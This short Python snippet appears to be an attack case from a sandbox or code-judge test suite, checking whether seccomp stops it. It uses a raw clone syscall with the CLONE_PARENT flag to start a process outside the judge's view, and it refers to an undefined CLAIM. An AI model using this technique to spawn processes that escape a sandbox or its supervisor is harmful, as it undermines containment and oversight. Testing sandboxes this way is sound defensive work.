ATTACK = {
    "success": "a process of its own runs",
    "stopped by": ["seccomp"],
}
import ctypes, os
libc = ctypes.CDLL(None)
if True:  # one statement: the child must not come to hear the judge's next request
    number = libc.syscall(56, 0x00008000 | 17, 0, 0, 0, 0)  # CLONE_PARENT: a child of the zygote
    if number == 0:
        libc.syscall(60, 0)
    if number > 0:
        raise RuntimeError(CLAIM)
